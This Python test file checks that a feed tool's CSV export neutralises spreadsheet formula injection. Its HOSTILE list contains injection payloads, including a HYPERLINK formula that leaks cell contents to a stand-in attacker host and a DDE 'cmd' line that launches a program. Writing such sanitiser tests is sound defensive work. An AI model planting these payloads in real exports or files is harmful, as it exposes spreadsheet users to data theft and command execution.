"""CSV exports are safe to open in a spreadsheet: no cell starts a formula (OWASP).

Feeds with hostile titles and categories are added through the real CLI, exported
with `aigeo export csv` as a real process, and the file is read back with Python's
csv module: every cell is checked.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.hardening.test_harden_views import aigeo
from tui.csvsafe import FORMULA_STARTS, csv_text, neutralise_cell

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=1",
    "ordinary title",
]


def test_every_exported_cell_is_inert(tmp_path: Path, db_path: Path) -> None:
    for n, title in enumerate(HOSTILE):
        category = HOSTILE[(n + 1) % len(HOSTILE)]
        aigeo(
            tmp_path,
            db_path,
            "add",
            f"http://127.0.0.1:9/feed{n}",
            "--title",
            title,
            "-c",
            category,
        )
    out = tmp_path / "feeds.csv"
    aigeo(tmp_path, db_path, "export", "csv", "-o", str(out))
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["url", "title", "category", "site_url", "disabled"]
    assert len(rows) == 1 + len(HOSTILE)
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    titles = {row[1] for row in rows[1:]}
    assert "'=1" in titles and "'+SUM(1,2)" in titles and "'@SUM(A1:A9)" in titles
    assert "ordinary title" in titles  # ordinary text is untouched


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralised_cells_keep_their_text(value: str) -> None:
    text = csv_text(["a"], [{"a": value}])
    (header, (cell,)) = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["a"]
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == value
    assert neutralise_cell(7) == 7 and neutralise_cell(None) is None
